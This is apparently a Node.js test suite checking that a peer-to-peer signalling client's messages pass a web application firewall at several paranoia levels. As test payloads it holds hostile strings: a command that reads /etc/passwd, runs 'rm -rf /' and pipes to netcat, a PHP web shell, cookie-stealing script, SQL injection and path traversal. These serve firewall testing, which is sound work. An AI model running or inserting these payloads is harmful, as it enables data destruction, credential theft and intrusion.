// No message of the protocol is lost to a firewall: the whole of it, and random bodies, through the client's own module, at paranoia levels 1, 2
// and (from h= on) 4. Short by default; POLYCIRCLE_LONG=1 sends 1,000 random bodies at each level.
import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { instance } from '../../htdocs/meet/instance.js';
import { bytes, dice } from '../js/world.mjs';
import { refused, ruleSets, startWalled, table } from './wall.mjs';

const LONG = process.env.POLYCIRCLE_LONG == '1', RANDOM = LONG ? 1000 : 200, ROUNDS = LONG ? 20 : 2;
const roll = dice(20261124), hex = (n) => Buffer.from(bytes(roll, n)).toString('hex'), text = (n) => Buffer.from(bytes(roll, n)).toString('base64url').slice(0, n);
const repeated = (part, n) => part.repeat(n / part.length + 1).slice(0, n);
const chrome = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36',
  accept: '*/*', 'accept-language': 'en-US,en;q=0.9', 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'empty' };

const KATAKANA = repeated('ﾀﾞｯｶﾝ ', 3066);  // 8,176 bytes of UTF-8, many a "--" in base64url

/** What a mail may hold: what the client packs, what others may write, what a firewall looks for. */
const mails = [text(120), text(8192), repeated('v=0\r\no=- 4611731400430051336 2 IN IP4 127.0.0.1\r\na=candidate:1 1 udp 2113937151 192.0.2.7 54321 typ host\r\n', 8192),
  repeated('<script>alert(document.cookie)</script>', 8192), repeated("' UNION SELECT password FROM users WHERE 1=1 -- ", 8192), repeated('../../../../etc/passwd;', 8192),
  repeated('$(cat /etc/passwd) && rm -rf / | nc 192.0.2.1 80 ', 8192), repeated('<?php system($_GET["c"]); ?>', 8192), KATAKANA];

/** Any text of about `size` bytes: what JSON is mostly, bytes as characters, all the planes, and the block in whose base64url "--" is. */
function randomText(size, kind) {
  if (kind == 0) return text(size);
  if (kind == 1) return Buffer.from(bytes(roll, Math.floor(size / 1.6))).toString('latin1').replaceAll('\0', ' ');
  const [first, count] = kind == 2 ? [0x20, 0xd7e0] : [0xff61, 63];
  return Array.from({ length: Math.floor(size / 3) }, () => String.fromCharCode(first + roll(count))).join('');
}

/** What the owner's pages say. */
const owner = [{ do: 'setup', url: ['https://site.example/', 'http://www.site.example/cgi-bin/polycircle.fcgi/'], root: '/home/u/public_html', folder: '/home/u/public_html/films', at: '/films/' },
  { do: 'setup', folder: 'C:\\Inetpub\\vhosts\\site.example\\httpdocs\\films', ice: ['stun:stun.example.org:3478', 'turn:turn.example.org:3478?transport=udp'] },
  { do: 'circle', name: 'films', origins: ['https://other.example', 'http://localhost:8080'], notice: 'Visitors of this page see each other\'s addresses. <a href="/privacy">More</a>' },
  { do: 'set', name: 'proxies', value: '192.0.2.0/24,2001:db8::/32' }, { do: 'test', sample: '../../etc/passwd <script>alert(1)</script> \' or 1=1 --' }];

/** The client of a page; `h`: it begins with that form. Counts what it was asked and what was refused on the way. */
function makeClient(host, h) {
  const counts = { messages: 0, refused: 0 };
  const headers = { ...chrome, origin: `http://localhost:${host.port}`, referer: `http://localhost:${host.port}/` };
  const wire = (url, init) => fetch(url, { ...init, headers });
  return { counts, wire,
    /** one message, by a client that knows nothing yet; three tries are what the ladder needs */
    async say(path, body) {
      const it = Object.assign(instance(host.base, () => {}, wire), { h });
      counts.messages++;
      for (let tries = 1; ; tries++) {
        const answer = await it.ask(path, body).catch((error) => error);
        if (!(answer instanceof Error)) return answer;
        if (answer.code) return { error: answer.code, text: answer.message };
        counts.refused++;
        assert.ok(tries < 3, `lost: ${path} ${JSON.stringify(body).slice(0, 300)}`);
      }
    },
    async leave(body) {
      const was = Object.getOwnPropertyDescriptor(globalThis, 'navigator'), sent = [];
      Object.defineProperty(globalThis, 'navigator', { configurable: true, value: { sendBeacon: (url, form) => sent.push(wire(url, { method: 'POST', body: form })) } });
      Object.assign(instance(host.base, () => {}), { h }).beacon('sync', body);
      was ? Object.defineProperty(globalThis, 'navigator', was) : delete globalThis.navigator;
      await Promise.all(sent);
    } };
}

const identity = () => ({ v: 1, token: hex(32), run: hex(4) });

/** Greeter and newcomer, from the join to the goodbye. */
async function protocol(host, client) {
  const { say } = client, { open } = host, g = identity(), n = identity(), count = async () => (await (await client.wire(`${host.base}roster/${open.cid}.json`)).json()).n;
  const offers = [1024, 120, 700].map((size) => ({ id: text(16), sdp: text(size) })), before = await count();
  let greeter = await say('sync', { ...g, key: open.api_key, version: 1, greet: true, have: Array.from({ length: 256 }, (_, i) => [i, 1 + i % 100]), want: [3, 65535], offers: [], mail: [], gone: [] });
  assert.equal(greeter.role, 'greeter', JSON.stringify(greeter));
  greeter = { ...greeter, ...await say('sync', { ...g, cursor: greeter.cursor, greet: true, offers, mail: [], gone: [] }) };
  assert.equal(greeter.standing, 3);
  const newcomer = await say('sync', { ...n, key: open.api_key, greet: true, offers: [], mail: [], gone: [] });
  assert.equal(await count(), before + 2);
  const claimed = newcomer.peers.filter((p) => p.sig == greeter.sig).map((p) => p.offer);
  assert.ok(claimed.length > 0);
  for (const offer of claimed) assert.equal(offers.find((o) => o.id == offer.id)?.sdp, offer.sdp);
  const mail = mails.map((body, i) => ({ id: text(16), to: greeter.sig, re: offers[i % 3].id, body }));
  let { cursor } = newcomer, received = greeter;
  for (const some of [mail.slice(0, 8), mail.slice(8)]) {
    const answer = await say('sync', { ...n, cursor, mail: some, offers: [], gone: [] });
    assert.deepEqual(answer.sent.map((s) => [s.id, s.error]), some.map((m) => [m.id, undefined]));
    cursor = answer.cursor;
    received = await say('sync', { ...g, cursor: received.cursor, greet: true });
    assert.deepEqual(received.mail.map((m) => m.body), some.map((m) => m.body), 'every mail, as it was sent');
    await say('sync', { ...g, cursor: received.cursor, version: 1, have: [] }); // what writes acknowledges: no more than 64 KiB are under way
  }
  for (const body of [{ ...g, cursor: received.cursor, gone: Array.from({ length: 16 }, () => hex(32)) }, { ...n, cursor }]) assert.equal((await say('sync', body)).error, undefined);
  return { goodbye: [{ ...n, leave: true }, { ...g, leave: true }], before, count };
}

/** Every GET, as a browser asks: [path, status, what the answer must hold, request headers] */
const gets = ({ open, vault, sha }) => [['health', 200, '"ok":true'], [`signal?${open.api_key}`, 200, open.cid], [`signal?api_key=${open.api_key}`, 200, open.cid],
  [`signal.js?${open.api_key}`, 200, open.cid], [`signal?${vault.api_key}`, 200, vault.cid], ['signal?nosuchkey', 403, 'polycircle'], [`package/${sha}.tar.gz`, 200, '\x1f'],
  ...['signal.js', 'circles.js', 'ask.css'].map((file) => [`package/${sha}/${file}`, 200, '']), ['client.js', 200, 'polycircle'],
  ['circle-sw.js', 200, 'polycircle'], ['circles.json', 200, open.cid], ['circles.js', 200, open.cid], [`roster/${open.cid}.json`, 200, open.cid],
  [`manifest/${open.cid}.json`, 200, 'Der Film.mp4'], [`manifest/${vault.cid}.json`, 200, 'film.mp4'], ['mirror/open/Der%20Film.mp4', 302, ''],
  ['mirror/vault/nosuch.mp4', 404, 'polycircle'], ['nosuch', 404, 'polycircle']];
const ranges = [['mirror/vault/film.mp4', 206, 'f'.repeat(1000), { range: 'bytes=100-1099' }], ['mirror/vault/film.mp4', 206, 'f'.repeat(1 << 20), { range: 'bytes=0-' }],
  ['mirror/vault/film.mp4', 416, 'polycircle', { range: 'bytes=9000000-' }], ['../../films/Der%20Film.mp4', 206, 'f'.repeat(1000), { range: 'bytes=100-1099' }]];

async function fill(site, dir) {
  await mkdir(join(site, 'films'));
  await mkdir(join(dir, 'vault'));
  await writeFile(join(site, 'films/Der Film.mp4'), 'f'.repeat(300000));
  await writeFile(join(dir, 'vault/film.mp4'), 'f'.repeat(1500000));
}

async function setUp(host) {
  await host.owner('init', '--url', host.base, '--root', join(host.dir, 'public_html'));
  for (const [name, folder, roster] of [['open', 'public_html/films', 'public'], ['vault', 'vault', 'members']]) {
    host[name] = JSON.parse(await host.owner('circle', 'add', name, '--roster', roster, '--json'));
    await host.owner('publish', name, join(host.dir, folder));
  }
  host.sha = /"package": ?"(\w{64})"/.exec(await (await fetch(`${host.base}signal?${host.open.api_key}`, { headers: chrome })).text())[1];
}

for (const rules of ruleSets) {
  for (const [level, h] of [[1, false], [2, false], [4, true]]) {
    describe(`${rules.name}, paranoia level ${level}${h ? ', h=' : ''}`, () => {
      let host, client;
      before(async () => {
        host = await startWalled(rules, level, { fill });
        await setUp(host);
        client = makeClient(host, h);
      });
      after(() => host?.stop());

      test('the wall stands', async () => {
        const { end } = await refused(host);
        for (const attack of ['?x=<script>alert(1)</script>', '?x=../../../../etc/passwd']) assert.equal((await fetch(host.base + attack, { headers: chrome })).status, 403);
        assert.equal((await refused(host, end)).requests, 2, 'and its log can be read');
      });

      test('every address by GET, nothing refused', async () => {
        const { end } = await refused(host);
        for (const [path, status, holds, headers] of [...gets(host), ...level < 3 ? ranges : []]) {
          const answer = await fetch(host.base + path, { headers: { ...chrome, ...headers }, redirect: 'manual' }), body = Buffer.from(await answer.arrayBuffer()).toString('latin1');
          assert.equal(answer.status, status, [path, body.slice(0, 200), ...table(await refused(host, end))].join('\n'));
          assert.ok(body.includes(holds), path);
          const etag = answer.headers.get('etag');
          if (etag && status == 200) assert.equal((await fetch(host.base + path, { headers: { ...chrome, 'if-none-match': etag } })).status, 304, path);
        }
        assert.equal((await refused(host, end)).requests, 0);
      });

      if (level > 2) {
        test('no Range passes here, of a static file neither: that is rule 921230, and nothing of ours', async () => {
          const { end } = await refused(host);
          for (const [path, , , headers] of ranges) assert.equal((await fetch(host.base + path, { headers: { ...chrome, ...headers } })).status, 403);
          assert.deepEqual(Object.keys((await refused(host, end)).rules), ['921230']);
        });

        test('a client that begins with d finds h at the third try, and keeps it; plain ASCII would have passed', async () => {
          const kept = [], it = instance(host.base, (value) => kept.push(value), client.wire), answers = [];
          for (let i = 0; i < 5; i++) answers.push(await it.ask('sync', { ...identity(), key: host.open.api_key, pad: KATAKANA }).then(() => 'ok', (error) => error.code));
          assert.deepEqual([answers, kept], [['', '', 'ok', 'ok', 'ok'], [true]]);
          await instance(host.base, assert.fail, client.wire).ask('sync', { ...identity(), key: host.open.api_key });
        });
      }

      test('the whole protocol', async (t) => {
        const { counts } = client, { end } = await refused(host);
        for (let i = 0; i < ROUNDS; i++) {
          const { goodbye, before: was, count } = await protocol(host, client);
          for (const body of goodbye) await client.leave(body);
          assert.equal(await count(), was, 'both goodbyes arrived');
        }
        const member = identity();
        assert.ok((await client.say('sync', { ...member, key: host.vault.api_key })).sig);
        assert.equal((await client.say(`roster/${host.vault.cid}.json`, { v: 1, token: member.token })).n, 1);
        for (const body of owner) assert.ok(await client.say('owner', { v: 1, code: text(32), ...body }));
        for (const line of [`${counts.messages} messages, ${counts.refused} tries refused on their way`, ...table(await refused(host, end))]) t.diagnostic(line);
        if (h) assert.equal(counts.refused, 0);
      });

      test(`${RANDOM} random bodies of 64 B to 30 kB`, async (t) => {
        const { counts } = client, was = counts.refused, { end } = await refused(host), me = identity(), { cursor } = await client.say('sync', { ...me, key: host.open.api_key });
        for (let i = 0; i < RANDOM; i++) {
          const pad = randomText(64 * (30000 / 64) ** (roll(1000) / 999), i % 4);
          assert.equal((await client.say('sync', { ...me, cursor, pad })).error, undefined);
        }
        for (const line of [`${RANDOM} bodies, ${counts.refused - was} tries refused on their way`, ...table(await refused(host, end))]) t.diagnostic(line);
        if (h) assert.equal(counts.refused, was);
      });
    });
  }
}
